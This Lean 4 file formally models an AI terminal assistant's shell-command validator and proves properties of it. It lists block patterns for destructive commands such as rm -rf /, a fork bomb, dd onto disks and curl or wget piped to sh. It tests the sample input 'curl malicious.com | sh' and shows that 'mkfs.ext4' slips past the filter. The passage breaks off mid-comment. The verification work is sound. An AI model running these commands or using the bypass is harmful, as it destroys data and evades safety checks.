import Mathlib

/-!
Shallow embedding of the command-validation engine of the
ai-terminal-assistant repository
(src/usr/lib/ai-terminal-assistant/security.py, class CommandValidator),
together with the security section of the shipped default configuration
(src/usr/lib/ai-terminal-assistant/config.py, ConfigManager.DEFAULT_CONFIG).

Strings are modelled at the level of their character lists.  The character
classes of the Python regular expressions and of str.strip / str.lower are
modelled on their ASCII behaviour; every pattern literal in the source is
pure ASCII.
-/

namespace AITerm

/-- The characters stripped by the Python str.strip() call at the top of
validate_command (ASCII whitespace). -/
def isStripSpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- The whitespace set of the shlex module: space, tab, carriage return and
newline (shlex.whitespace). -/
def isShlexSpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\r' || c == '\n'

/-- ASCII lower-casing of one character, as applied by str.lower(). -/
def asciiLower (c : Char) : Char :=
  if 65 ≤ c.toNat ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c

/-- str.lower() on a whole string (ASCII model). -/
def lowerStr (s : String) : String := String.mk (s.data.map asciiLower)

/-- str.strip() with no argument: drop leading and trailing whitespace. -/
def pyStrip (s : String) : String :=
  String.mk (((s.data.dropWhile isStripSpace).reverse.dropWhile isStripSpace).reverse)

/-- str.startswith on strings. -/
def strStartsWith (s pre : String) : Bool := pre.data.isPrefixOf s.data

/-- str.endswith on strings. -/
def strEndsWith (s suf : String) : Bool := suf.data.reverse.isPrefixOf s.data.reverse

/-- str.rstrip(c): drop every trailing occurrence of the character c. -/
def rstripAll (c : Char) (s : String) : String :=
  String.mk ((s.data.reverse.dropWhile (· == c)).reverse)

/-- Substring containment test (the Python `sub in s` operator). -/
def hasSubstr : List Char → List Char → Bool
  | [], sub => sub.isEmpty
  | l@(_ :: t), sub => sub.isPrefixOf l || hasSubstr t sub

/-- str.join: concatenate the pieces with the separator between each pair. -/
def pyJoin (sep : String) : List String → String
  | [] => ""
  | [a] => a
  | a :: b :: rest => a ++ sep ++ pyJoin sep (b :: rest)

/-- Rendering of an optional string inside an f-string (None prints as
"None"). -/
def pyShowOpt : Option String → String
  | some s => s
  | none => "None"

/-- The ASCII apostrophe character, used in the f-string that quotes the
base command in a confirmation reason. -/
def squoteChar : Char := Char.ofNat 39

/-- One-character string holding the ASCII apostrophe. -/
def squoteStr : String := String.mk [squoteChar]

/-! ### A matcher for the regular expressions of the validator

Every pattern in CRITICAL_PATTERNS and WARNING_PATTERNS is a plain
sequence of character classes, each carrying one of the quantifiers
`?`, `*`, `+` or none, with no alternation and no groups beyond literal
escaped punctuation.  A pattern is therefore modelled as a list of
(character-predicate, quantifier) items, and re.search as the existence
of a match of that sequence somewhere in the subject string.
re.IGNORECASE is modelled by lower-casing the subject; every letter in
the patterns is already lower case. -/

inductive Quant where
  | one
  | opt
  | star
  | plus
deriving Repr, DecidableEq

/-- One regex item: a character class plus a quantifier. -/
abbrev RItem := (Char → Bool) × Quant

/-- All suffixes of the character list reachable by letting a starred
class consume zero or more matching characters from the front. -/
def starSuffixes (p : Char → Bool) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs => (c :: cs) :: (if p c then starSuffixes p cs else [])

/-- Does some prefix of the character list match the item sequence? -/
def matchHere : List RItem → List Char → Bool
  | [], _ => true
  | (p, Quant.one) :: rest, cs =>
      match cs with
      | [] => false
      | c :: cs' => p c && matchHere rest cs'
  | (p, Quant.opt) :: rest, cs =>
      matchHere rest cs
        || (match cs with
            | [] => false
            | c :: cs' => p c && matchHere rest cs')
  | (p, Quant.star) :: rest, cs =>
      (starSuffixes p cs).any (fun suf => matchHere rest suf)
  | (p, Quant.plus) :: rest, cs =>
      match cs with
      | [] => false
      | c :: cs' => p c && (starSuffixes p cs').any (fun suf => matchHere rest suf)

/-- Does the item sequence match starting at some position (re.search)? -/
def searchFrom : List RItem → List Char → Bool
  | items, [] => matchHere items []
  | items, l@(_ :: cs) => matchHere items l || searchFrom items cs

/-- Boolean result of re.search(pattern, s). -/
def rsearch (items : List RItem) (s : String) : Bool := searchFrom items s.data

/-- The regex class \s (ASCII). -/
def wsChar (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- The regex class \w (ASCII). -/
def wordChar (c : Char) : Bool := c.isAlpha || c.isDigit || c == '_'

/-- The regex metacharacter `.` (any character except newline). -/
def dotChar (c : Char) : Bool := c != '\n'

/-- The regex class [sh]. -/
def shClass (c : Char) : Bool := c == 's' || c == 'h'

/-- The regex class [0-7]. -/
def octChar (c : Char) : Bool := decide (48 ≤ c.toNat) && decide (c.toNat ≤ 55)

/-- A single literal character item. -/
def lit (c : Char) : RItem := ((· == c), Quant.one)

/-- A run of literal character items. -/
def lits (s : String) : List RItem := s.data.map lit

def wsStar : RItem := (wsChar, Quant.star)
def wsPlus : RItem := (wsChar, Quant.plus)
def dotStar : RItem := (dotChar, Quant.star)

/-- CommandValidator.CRITICAL_PATTERNS, in source order:
rm -rf /, rm -rf /word, dd onto a disk, fork bomb, redirect onto a disk
device, curl piped to sh, wget piped to sh, echo into /etc/passwd,
echo into /etc/shadow. -/
def CRITICAL_PATTERNS : List (List RItem) :=
  [ lits "rm" ++ [wsPlus] ++ lits "-rf" ++ [wsStar] ++ lits "/",
    lits "rm" ++ [wsPlus] ++ lits "-rf" ++ [wsPlus] ++ lits "/" ++ [(wordChar, Quant.plus)],
    lits "dd" ++ [wsPlus] ++ lits "if=" ++ [dotStar] ++ lits "of=/dev/"
      ++ [(shClass, Quant.one)] ++ lits "d",
    lits ":()\x7b" ++ [wsStar, dotStar] ++ lits "|" ++ [wsStar, dotStar]
      ++ lits "&" ++ [wsStar] ++ lits "\x7d:",
    lits ">" ++ [wsStar] ++ lits "/dev/" ++ [(shClass, Quant.one)] ++ lits "d",
    lits "curl" ++ [dotStar] ++ lits "|" ++ [wsStar] ++ lits "sh",
    lits "wget" ++ [dotStar] ++ lits "|" ++ [wsStar] ++ lits "sh",
    lits "echo" ++ [dotStar] ++ lits ">" ++ [wsStar] ++ lits "/etc/passwd",
    lits "echo" ++ [dotStar] ++ lits ">" ++ [wsStar] ++ lits "/etc/shadow" ]

/-- CommandValidator.WARNING_PATTERNS, each paired with its source text
(stored by the validator in the warning_pattern field). -/
def WARNING_PATTERNS : List (String × List RItem) :=
  [ ("rm\\s+-r[f]?\\s+",
      lits "rm" ++ [wsPlus] ++ lits "-r" ++ [((· == 'f'), Quant.opt), wsPlus]),
    ("chmod\\s+[0-7]{3}\\s+/",
      lits "chmod" ++ [wsPlus, (octChar, Quant.one), (octChar, Quant.one),
        (octChar, Quant.one), wsPlus] ++ lits "/"),
    ("chown\\s+.*:\\s*/",
      lits "chown" ++ [wsPlus, dotStar] ++ lits ":" ++ [wsStar] ++ lits "/"),
    (">\\s*/etc/", lits ">" ++ [wsStar] ++ lits "/etc/"),
    (">\\s*/var/", lits ">" ++ [wsStar] ++ lits "/var/"),
    (">\\s*/usr/", lits ">" ++ [wsStar] ++ lits "/usr/"),
    (">\\s*/boot/", lits ">" ++ [wsStar] ++ lits "/boot/") ]

/-- The critical-pattern scan of validate_command: re.search of each
critical pattern against the command, case-insensitively. -/
def hasCriticalPattern (command : String) : Bool :=
  CRITICAL_PATTERNS.any (fun pat => rsearch pat (lowerStr command))

/-! ### shlex.split (POSIX mode, whitespace_split) -/

inductive ShlexMode where
  | normal
  | inSingle
  | inDouble
deriving Repr, DecidableEq

/-- State machine of shlex.split in POSIX mode: `cur` is the token under
construction (some [] marks an active but so far empty token, as produced
by a quote), `acc` the finished tokens. -/
def shlexCore : List Char → ShlexMode → Option (List Char) → List (List Char) →
    Except String (List (List Char))
  | [], ShlexMode.normal, cur, acc =>
      Except.ok (acc ++ (match cur with | some t => [t] | none => []))
  | [], ShlexMode.inSingle, _, _ => Except.error "No closing quotation"
  | [], ShlexMode.inDouble, _, _ => Except.error "No closing quotation"
  | c :: cs, ShlexMode.normal, cur, acc =>
      if isShlexSpace c then
        match cur with
        | some t => shlexCore cs ShlexMode.normal none (acc ++ [t])
        | none => shlexCore cs ShlexMode.normal none acc
      else if c == squoteChar then shlexCore cs ShlexMode.inSingle (some (cur.getD [])) acc
      else if c == '"' then shlexCore cs ShlexMode.inDouble (some (cur.getD [])) acc
      else if c == '\\' then
        match cs with
        | [] => Except.error "No escaped character"
        | d :: ds => shlexCore ds ShlexMode.normal (some (cur.getD [] ++ [d])) acc
      else shlexCore cs ShlexMode.normal (some (cur.getD [] ++ [c])) acc
  | c :: cs, ShlexMode.inSingle, cur, acc =>
      if c == squoteChar then shlexCore cs ShlexMode.normal cur acc
      else shlexCore cs ShlexMode.inSingle (some (cur.getD [] ++ [c])) acc
  | c :: cs, ShlexMode.inDouble, cur, acc =>
      if c == '"' then shlexCore cs ShlexMode.normal cur acc
      else if c == '\\' then
        match cs with
        | [] => Except.error "No escaped character"
        | d :: ds =>
          if d == '"' || d == '\\' then
            shlexCore ds ShlexMode.inDouble (some (cur.getD [] ++ [d])) acc
          else
            shlexCore ds ShlexMode.inDouble (some (cur.getD [] ++ [c, d])) acc
      else shlexCore cs ShlexMode.inDouble (some (cur.getD [] ++ [c])) acc

/-- shlex.split: tokenize, or raise ValueError (modelled as an error value
carrying the message interpolated into the "Invalid syntax" reason). -/
def shlexSplit (s : String) : Except String (List String) :=
  (shlexCore s.data ShlexMode.normal none []).map (fun ts => ts.map String.mk)

/-! ### Classification tables of CommandValidator.__init__ -/

def DANGEROUS_COMMANDS : List String :=
  ["dd", "mkfs", "fdisk", "parted", "shred", "format", "wipefs",
   "badblocks", "fsck", "cfdisk", "init", "shutdown", "reboot",
   "halt", "poweroff", "passwd", "userdel", "groupdel"]

def CONFIRMATION_COMMANDS : List String :=
  ["cp", "mv", "ln", "mkdir", "touch", "rm", "rmdir",
   "chmod", "chown", "chgrp",
   "tar", "unzip", "gzip", "gunzip", "zip",
   "nano", "vim", "vi", "emacs", "gedit",
   "apt", "apt-get", "dpkg", "snap", "pip", "pip3",
   "systemctl", "service", "sudo",
   "iptables", "ufw", "netplan"]

def SAFE_CONFIG_FILES : List String :=
  ["~/.bashrc", "~/.bash_aliases", "~/.bash_profile", "~/.profile",
   "~/.zshrc", "~/.zsh_aliases", "~/.vimrc", "~/.nanorc",
   "~/.gitconfig", "~/.ssh/config",
   "~/.config/", "~/.local/",
   "/etc/nginx/", "/etc/apache2/", "/etc/httpd/",
   "/etc/mysql/", "/etc/postgresql/",
   "/etc/redis/", "/etc/memcached/",
   "/etc/php/", "/etc/python3/",
   "/etc/environment", "/etc/hosts",
   "/etc/fstab", "/etc/crontab",
   "/etc/systemd/", "/etc/ufw/",
   "/etc/iptables/", "/etc/netplan/",
   "/etc/apt/", "/etc/yum.repos.d/"]

def CRITICAL_FILES : List String :=
  ["/etc/passwd", "/etc/shadow", "/etc/sudoers",
   "/etc/group", "/etc/gshadow", "/boot/",
   "/proc/", "/sys/", "/dev/"]

/-- The editor-name set of _is_config_editing_command. -/
def editors : List String := ["nano", "vim", "vi", "emacs", "gedit", "code", "subl"]

/-- The recognized config-file extensions of _is_config_editing_command. -/
def CONFIG_EXTS : List String :=
  [".conf", ".config", ".cfg", ".ini", ".yml", ".yaml", ".json"]

/-- The system-path tuple of the requires-sudo check. -/
def SUDO_PATHS : List String := ["/etc/", "/var/", "/usr/", "/boot/", "/opt/"]

/-! ### _is_config_editing_command -/

structure ConfigEditTarget where
  is_config : Bool := false
  is_critical : Bool := false
  file_path : Option String := none
  editor : Option String := none
  requires_sudo : Bool := false
deriving Repr, DecidableEq

/-- The token scan of the editor branch.  Note the condition is the exact
Python expression
`not part.startswith('-') and '/' in part or part.startswith('~') or
part.endswith((...))`, in which the option-flag guard binds only to the
path-separator test. -/
def findEditedFile (parts : List String) : Option String :=
  parts.find? (fun part =>
    (!strStartsWith part "-" && part.data.contains '/')
    || strStartsWith part "~"
    || CONFIG_EXTS.any (fun ext => strEndsWith part ext))

/-- Character class [^\s&|;] of the redirection-target regex. -/
def redirTokChar (c : Char) : Bool :=
  !(wsChar c || c == '&' || c == '|' || c == ';')

/-- At a position just after a `>`: skip whitespace, then take a maximal
nonempty run of target characters. -/
def redirExtract (cs : List Char) : Option (List Char) :=
  let tok := (cs.dropWhile wsChar).takeWhile redirTokChar
  if tok.isEmpty then none else some tok

/-- re.search of `>\s*([^\s&|;]+)` returning the captured group. -/
def redirTarget : List Char → Option String
  | [] => none
  | c :: cs =>
      if c == '>' then
        match redirExtract cs with
        | some tok => some (String.mk tok)
        | none => redirTarget cs
      else redirTarget cs

/-- Backtracking over the greedy `>`-run of `>+\s*([^\s&|;]+)`:
try consuming k extra `>` characters, descending. -/
def redirPlusTry : Nat → List Char → Option (List Char)
  | k, cs =>
      let tok := ((cs.drop k).dropWhile wsChar).takeWhile redirTokChar
      if !tok.isEmpty then some tok
      else match k with
        | 0 => none
        | k' + 1 => redirPlusTry k' cs

/-- re.search of `>+\s*([^\s&|;]+)` returning the captured group. -/
def redirPlusTarget : List Char → Option String
  | [] => none
  | c :: cs =>
      if c == '>' then
        match redirPlusTry (cs.takeWhile (· == '>')).length cs with
        | some tok => some (String.mk tok)
        | none => redirPlusTarget cs
      else redirPlusTarget cs

/-- The `len(command_parts) > 1 and command_parts[1] in editors` part of
the editor-branch guard, applied to the tokens after the first. -/
def sudoSecondEditor : List String → Bool
  | e :: _ => editors.contains e
  | [] => false

/-- The branch chain of _is_config_editing_command that fills in the
editor and file_path fields (the flags stay at their defaults here). -/
def rawEditTarget (command : String) (command_parts : List String) : ConfigEditTarget :=
  match command_parts with
  | [] => {}
  | first :: rest =>
      if editors.contains (lowerStr first)
          || (lowerStr first == "sudo" && sudoSecondEditor rest) then
        { editor := some (lowerStr first), file_path := findEditedFile rest }
      else if command.data.contains '>' then
        { file_path := redirTarget command.data }
      else if ["echo", "cat", "printf"].contains (lowerStr first)
          && (command.data.contains '>' || hasSubstr command.data ['>', '>']) then
        { file_path := redirPlusTarget command.data }
      else {}

/-- The trailing section of _is_config_editing_command: given a truthy
file_path, set is_config, is_critical and requires_sudo from the
path-prefix tables. -/
def finalizeTarget (r : ConfigEditTarget) : ConfigEditTarget :=
  match r.file_path with
  | none => r
  | some p =>
      if p.data.isEmpty then r
      else
        let safeHit := SAFE_CONFIG_FILES.any (fun sp => strStartsWith p (rstripAll '/' sp))
        let critHit := CRITICAL_FILES.any (fun cp => strStartsWith p (rstripAll '/' cp))
        let sudoHit := SUDO_PATHS.any (fun sp => strStartsWith p sp)
        { r with is_config := safeHit || critHit || sudoHit,
                 is_critical := critHit,
                 requires_sudo := sudoHit }

/-- CommandValidator._is_config_editing_command. -/
def is_config_editing_command (command : String) (command_parts : List String) :
    ConfigEditTarget :=
  finalizeTarget (rawEditTarget command command_parts)

/-! ### validate_command -/

/-- The three entries of the security-config dictionary that
validate_command reads; each is optional because the Python code reads
them with dict.get and a fallback default. -/
structure SecurityConfig where
  require_confirmation : Option Bool
  block_dangerous_commands : Option Bool
  max_command_length : Option Nat
deriving Repr, DecidableEq

/-- The security section of ConfigManager.DEFAULT_CONFIG (config.py);
the log_commands entry is not read by the validator and is omitted. -/
def defaultSecurityConfig : SecurityConfig :=
  { require_confirmation := some true,
    block_dangerous_commands := some true,
    max_command_length := some 1000 }

/-- The result dictionary of validate_command.  The rejection branches
return dictionaries holding only valid and reason (plus risk_level for
the pattern and dangerous-command blocks); every key that a branch does
not write is modelled as none. -/
structure Verdict where
  valid : Bool
  reason : String
  risk_level : Option String := none
  needs_confirmation : Option Bool := none
  confirmation_reason : Option String := none
  base_command : Option String := none
  config_editing : Option ConfigEditTarget := none
  warning_pattern : Option String := none
  backup_recommended : Option Bool := none
deriving Repr, DecidableEq

/-- The confirmation_reason list built by validate_command, in source
order: state-modifying base command, warning pattern, config-file edit,
critical-file edit. -/
def confirmationReasons (base_command : String) (warningFound : Bool)
    (config_editing : ConfigEditTarget) : List String :=
  (if CONFIRMATION_COMMANDS.contains base_command then
      [squoteStr ++ base_command ++ squoteStr ++ " modifies system state"] else [])
  ++ (if warningFound then ["potentially risky operation detected"] else [])
  ++ (if config_editing.is_config then
      ["editing configuration file: " ++ pyShowOpt config_editing.file_path] else [])
  ++ (if config_editing.is_critical then
      ["CRITICAL SYSTEM FILE - extra caution required"] else [])

/-- CommandValidator.validate_command. -/
def validate_command (cfg : SecurityConfig) (raw : String) : Verdict :=
  let command := pyStrip raw
  if command.data.isEmpty then { valid := false, reason := "Empty command" }
  else if cfg.max_command_length.getD 2000 < command.length then
    { valid := false, reason := "Command too long" }
  else
    match shlexSplit command with
    | Except.error e => { valid := false, reason := "Invalid syntax: " ++ e }
    | Except.ok [] => { valid := false, reason := "Unable to parse command" }
    | Except.ok (first :: restParts) =>
      if hasCriticalPattern command then
        { valid := false,
          reason := "Critical security pattern detected - command blocked",
          risk_level := some "CRITICAL" }
      else if cfg.block_dangerous_commands.getD true
          && DANGEROUS_COMMANDS.contains (lowerStr first) then
        { valid := false,
          reason := "Dangerous command blocked: " ++ lowerStr first,
          risk_level := some "HIGH" }
      else
        let warning := WARNING_PATTERNS.find? (fun wp => rsearch wp.2 (lowerStr command))
        let config_editing := is_config_editing_command command (first :: restParts)
        let needs_confirmation :=
          CONFIRMATION_COMMANDS.contains (lowerStr first) || warning.isSome
            || config_editing.is_config || config_editing.is_critical
        let risk_level :=
          if config_editing.is_critical then "HIGH"
          else if warning.isSome || config_editing.is_config then "MEDIUM"
          else "LOW"
        { valid := true,
          reason := "Command validated",
          risk_level := some risk_level,
          needs_confirmation :=
            some (needs_confirmation && cfg.require_confirmation.getD true),
          confirmation_reason :=
            some (pyJoin "; " (confirmationReasons (lowerStr first) warning.isSome config_editing)),
          base_command := some (lowerStr first),
          config_editing := some config_editing,
          warning_pattern := warning.map Prod.fst,
          backup_recommended :=
            some (config_editing.is_config || config_editing.is_critical) }

/-- Modelled from the spec: the token condition of the editor branch as
the specification words it, with the option-flag guard covering all
three disjuncts.  Kept separate from findEditedFile (which transcribes
the code) so the two readings can be compared. -/
def specEditorFileCond (part : String) : Bool :=
  !strStartsWith part "-"
    && (part.data.contains '/'
        || strStartsWith part "~"
        || CONFIG_EXTS.any (fun ext => strEndsWith part ext))

/-! ## Helper lemmas -/

lemma dataAppend (a b : String) : (a ++ b).data = a.data ++ b.data := by
  cases a; cases b; rfl

lemma mk_ne_empty_of_data {a : String} (h : a.data ≠ []) : a ≠ "" := by
  intro he
  exact h (by rw [he])

lemma append_data_ne_nil {a b : String} (h : a.data ≠ []) : (a ++ b).data ≠ [] := by
  rw [dataAppend]
  intro hc
  exact h (List.append_eq_nil.mp hc).1

lemma pyJoin_cons_ne_empty (sep a : String) (l : List String) (ha : a.data ≠ []) :
    pyJoin sep (a :: l) ≠ "" := by
  cases l with
  | nil => exact mk_ne_empty_of_data ha
  | cons b t =>
      have : (a ++ sep ++ pyJoin sep (b :: t)).data ≠ [] :=
        append_data_ne_nil (append_data_ne_nil ha)
      exact mk_ne_empty_of_data this

lemma invalid_syntax_ne (e : String) : "Invalid syntax: " ++ e ≠ "Command too long" := by
  obtain ⟨l⟩ := e
  intro h
  have h2 : ("Invalid syntax: " ++ String.mk l).data.head? = some 'I' := rfl
  rw [h] at h2
  exact absurd h2 (by decide)

lemma dangerous_reason_ne (b : String) :
    "Dangerous command blocked: " ++ b ≠ "Command too long" := by
  obtain ⟨l⟩ := b
  intro h
  have h2 : ("Dangerous command blocked: " ++ String.mk l).data.head? = some 'D' := rfl
  rw [h] at h2
  exact absurd h2 (by decide)

lemma rawEditTarget_is_config (c : String) (ps : List String) :
    (rawEditTarget c ps).is_config = false := by
  unfold rawEditTarget
  rcases ps with _ | ⟨f, rest⟩
  · rfl
  · repeat (first | rfl | split)

lemma rawEditTarget_is_critical (c : String) (ps : List String) :
    (rawEditTarget c ps).is_critical = false := by
  unfold rawEditTarget
  rcases ps with _ | ⟨f, rest⟩
  · rfl
  · repeat (first | rfl | split)

lemma finalizeTarget_editor (r : ConfigEditTarget) :
    (finalizeTarget r).editor = r.editor := by
  unfold finalizeTarget
  split
  · rfl
  · split
    · rfl
    · rfl

lemma finalizeTarget_file_path (r : ConfigEditTarget) :
    (finalizeTarget r).file_path = r.file_path := by
  unfold finalizeTarget
  split
  · rfl
  · next p hp =>
      split
      · rfl
      · rw [hp]

/-! ## Claims -/

/-- C2: under the default configuration, "curl malicious.com | sh" is
rejected (it matches the curl-pipe-to-shell critical pattern), but
"mkfs.ext4 /dev/sda1" is ACCEPTED by the code: the dangerous-command
check compares the whole first token "mkfs.ext4" against the set, which
only holds "mkfs", and no critical pattern matches.  This contradicts
the claim and the repository's own test_dangerous_commands test, which
asserts valid=false for both inputs. -/
theorem C2_dangerous_examples :
    (validate_command defaultSecurityConfig "curl malicious.com | sh").valid = false
    ∧ (validate_command defaultSecurityConfig "mkfs.ext4 /dev/sda1").valid = true := by
  constructor
  · rfl
  · rfl

/-- C8: the config-edit classifier always satisfies is_critical = true →
is_config = true, and whenever the detected file_path starts with a
critical-file prefix (trailing slash stripped), both flags are set. -/
theorem C8_critical_implies_config (command : String) (parts : List String) :
    ((is_config_editing_command command parts).is_critical = true →
      (is_config_editing_command command parts).is_config = true)
    ∧ (∀ p, (is_config_editing_command command parts).file_path = some p →
        CRITICAL_FILES.any (fun cp => strStartsWith p (rstripAll '/' cp)) = true →
        (is_config_editing_command command parts).is_critical = true
        ∧ (is_config_editing_command command parts).is_config = true) := by
  have hk := rawEditTarget_is_critical command parts
  unfold is_config_editing_command finalizeTarget
  cases hfp : (rawEditTarget command parts).file_path with
  | none =>
      simp only [hfp]
      refine ⟨fun h => ?_, fun p hp => ?_⟩
      · rw [hk] at h; exact absurd h (by decide)
      · exact fun _ => absurd hp (by simp)
  | some p =>
      simp only [hfp]
      by_cases hemp : p.data.isEmpty = true
      · simp only [if_pos hemp]
        refine ⟨fun h => ?_, fun q hq hcrit => ?_⟩
        · rw [hk] at h; exact absurd h (by decide)
        · rw [hfp] at hq
          injection hq with hpq
          have hp0 : p = "" := by
            cases p with
            | mk l =>
                cases l with
                | nil => rfl
                | cons c cs => simp [List.isEmpty] at hemp
          rw [← hpq, hp0] at hcrit
          exact absurd hcrit (by decide)
      · simp only [if_neg hemp]
        refine ⟨fun h => ?_, fun q hq hcrit => ?_⟩
        · rw [h]
          simp
        · injection hq with hpq
          rw [← hpq] at hcrit
          exact ⟨hcrit, by rw [hcrit]; simp⟩

/-- C8 witness: editing /etc/sudoers through sudo nano is classified
with both is_critical and is_config set. -/
theorem C8_witness :
    (is_config_editing_command "sudo nano /etc/sudoers"
      ["sudo", "nano", "/etc/sudoers"]).is_critical = true
    ∧ (is_config_editing_command "sudo nano /etc/sudoers"
      ["sudo", "nano", "/etc/sudoers"]).is_config = true :=
  (C8_critical_implies_config "sudo nano /etc/sudoers"
    ["sudo", "nano", "/etc/sudoers"]).2 "/etc/sudoers" (by rfl) (by rfl)

/-- C4 counterexample: for `vim -u.conf /etc/hosts` (whose shell tokens
are exactly the given list) the classifier picks the option flag
"-u.conf" as file_path, although the claim requires the chosen token not
to be an option flag — the first token satisfying the claim's condition
would be "/etc/hosts".  The cause is the Python operator precedence in
the token test: the not-a-flag guard binds only to the path-separator
disjunct. -/
theorem C4_counterexample :
    shlexSplit "vim -u.conf /etc/hosts" = Except.ok ["vim", "-u.conf", "/etc/hosts"]
    ∧ (is_config_editing_command "vim -u.conf /etc/hosts"
        ["vim", "-u.conf", "/etc/hosts"]).file_path = some "-u.conf"
    ∧ specEditorFileCond "-u.conf" = false
    ∧ specEditorFileCond "/etc/hosts" = true :=
  ⟨rfl, rfl, rfl, rfl⟩

/-- C4 (amended): when the first token (lower-cased) is an editor name,
or it is sudo and the second token is an editor name, the classifier
sets the editor field (to the lower-cased first token) and sets
file_path to the first remaining token t with: t does not start with a
dash AND contains a slash, OR t starts with a tilde, OR t ends in a
recognized config extension; file_path is unset when no remaining token
satisfies this. -/
theorem C4_amended_editor_scan (command : String) (first : String) (rest : List String)
    (hed : editors.contains (lowerStr first) = true
      ∨ (lowerStr first = "sudo"
          ∧ ∃ e rest2, rest = e :: rest2 ∧ editors.contains e = true)) :
    (is_config_editing_command command (first :: rest)).editor = some (lowerStr first)
    ∧ (is_config_editing_command command (first :: rest)).file_path
      = rest.find? (fun part =>
          (!strStartsWith part "-" && part.data.contains '/')
          || strStartsWith part "~"
          || CONFIG_EXTS.any (fun ext => strEndsWith part ext)) := by
  have hguard : (editors.contains (lowerStr first)
      || (lowerStr first == "sudo" && sudoSecondEditor rest)) = true := by
    rcases hed with h | ⟨h1, e, rest2, h2, h3⟩
    · rw [h, Bool.true_or]
    · subst h2
      rw [h1]
      simp only [sudoSecondEditor, h3, Bool.and_true, Bool.or_true,
        beq_self_eq_true, Bool.true_and]
  have hr : rawEditTarget command (first :: rest)
      = { editor := some (lowerStr first), file_path := findEditedFile rest } := by
    simp only [rawEditTarget]
    rw [if_pos hguard]
  refine ⟨?_, ?_⟩
  · unfold is_config_editing_command
    rw [finalizeTarget_editor, hr]
  · unfold is_config_editing_command
    rw [finalizeTarget_file_path, hr]
    rfl

/-- C4 witness: vim on a tilde path gets the editor field and the first
matching token as file_path. -/
theorem C4_amended_witness :
    (is_config_editing_command "vim ~/.vimrc" ["vim", "~/.vimrc"]).editor = some "vim"
    ∧ (is_config_editing_command "vim ~/.vimrc" ["vim", "~/.vimrc"]).file_path
      = ["~/.vimrc"].find? (fun part =>
          (!strStartsWith part "-" && part.data.contains '/')
          || strStartsWith part "~"
          || CONFIG_EXTS.any (fun ext => strEndsWith part ext)) :=
  C4_amended_editor_scan "vim ~/.vimrc" "vim" ["~/.vimrc"] (Or.inl (by rfl))

/-- C1: for a non-empty trimmed command within the length limit whose
tokenization succeeds with a non-empty token list, a critical-pattern
match forces valid=false, risk_level CRITICAL and the fixed reason, for
every configuration. -/
theorem C1_critical_pattern_blocks (cfg : SecurityConfig) (cmd : String)
    (first : String) (restParts : List String)
    (hne : (pyStrip cmd).data.isEmpty = false)
    (hlen : (pyStrip cmd).length ≤ cfg.max_command_length.getD 2000)
    (htok : shlexSplit (pyStrip cmd) = Except.ok (first :: restParts))
    (hcrit : hasCriticalPattern (pyStrip cmd) = true) :
    (validate_command cfg cmd).valid = false
    ∧ (validate_command cfg cmd).risk_level = some "CRITICAL"
    ∧ (validate_command cfg cmd).reason
      = "Critical security pattern detected - command blocked" := by
  simp only [validate_command]
  rw [if_neg (by simp [hne]), if_neg (Nat.not_lt.mpr hlen)]
  simp only [htok]
  rw [if_pos hcrit]
  exact ⟨rfl, rfl, rfl⟩

/-- C1 witness: "rm -rf /" is blocked as CRITICAL even with confirmation
and dangerous-command blocking both disabled. -/
theorem C1_witness :
    (validate_command ⟨some false, some false, some 1000⟩ "rm -rf /").valid = false
    ∧ (validate_command ⟨some false, some false, some 1000⟩ "rm -rf /").risk_level
      = some "CRITICAL"
    ∧ (validate_command ⟨some false, some false, some 1000⟩ "rm -rf /").reason
      = "Critical security pattern detected - command blocked" :=
  C1_critical_pattern_blocks ⟨some false, some false, some 1000⟩ "rm -rf /"
    "rm" ["-rf", "/"] (by rfl) (by decide) (by rfl) (by rfl)

/-- C3: validate_command returns valid=false exactly when the trimmed
command is empty, or too long, or tokenization fails or yields no
tokens, or a critical pattern matches, or dangerous-command blocking is
enabled and the lower-cased first token is in the dangerous set. -/
theorem C3_valid_false_iff (cfg : SecurityConfig) (cmd : String) :
    (validate_command cfg cmd).valid = false ↔
      ((pyStrip cmd).data.isEmpty = true
      ∨ cfg.max_command_length.getD 2000 < (pyStrip cmd).length
      ∨ (∃ e, shlexSplit (pyStrip cmd) = Except.error e)
      ∨ shlexSplit (pyStrip cmd) = Except.ok []
      ∨ hasCriticalPattern (pyStrip cmd) = true
      ∨ (cfg.block_dangerous_commands.getD true = true
          ∧ ∃ first restParts, shlexSplit (pyStrip cmd) = Except.ok (first :: restParts)
            ∧ DANGEROUS_COMMANDS.contains (lowerStr first) = true)) := by
  simp only [validate_command]
  by_cases h1 : (pyStrip cmd).data.isEmpty = true
  · rw [if_pos h1]
    exact iff_of_true rfl (Or.inl h1)
  · rw [if_neg h1]
    by_cases h2 : cfg.max_command_length.getD 2000 < (pyStrip cmd).length
    · rw [if_pos h2]
      exact iff_of_true rfl (Or.inr (Or.inl h2))
    · rw [if_neg h2]
      rcases htok : shlexSplit (pyStrip cmd) with e | parts
      · simp only [htok]
        simp
      · cases parts with
        | nil =>
            simp only [htok]
            simp
        | cons first restParts =>
          simp only [htok]
          by_cases h3 : hasCriticalPattern (pyStrip cmd) = true
          · rw [if_pos h3]
            exact iff_of_true rfl (Or.inr (Or.inr (Or.inr (Or.inr (Or.inl h3)))))
          · rw [if_neg h3]
            by_cases h4 : (cfg.block_dangerous_commands.getD true
                && DANGEROUS_COMMANDS.contains (lowerStr first)) = true
            · rw [if_pos h4]
              rw [Bool.and_eq_true] at h4
              exact iff_of_true rfl (Or.inr (Or.inr (Or.inr (Or.inr (Or.inr
                ⟨h4.1, first, restParts, rfl, h4.2⟩)))))
            · rw [if_neg h4]
              refine iff_of_false (fun hf => Bool.noConfusion hf) ?_
              intro h
              rcases h with h | h | ⟨e, he⟩ | he | h | ⟨hbd, f, r, heq, hdang⟩
              · exact h1 h
              · exact h2 h
              · exact Except.noConfusion he
              · exact absurd (Except.ok.inj he) (by simp)
              · exact h3 h
              · have hinj := Except.ok.inj heq
                injection hinj with hf hr
                apply h4
                rw [Bool.and_eq_true]
                rw [← hf] at hdang
                exact ⟨hbd, hdang⟩

/-- C5: with require_confirmation set to false the verdict never asks
for confirmation (the field reads as false), while valid and risk_level
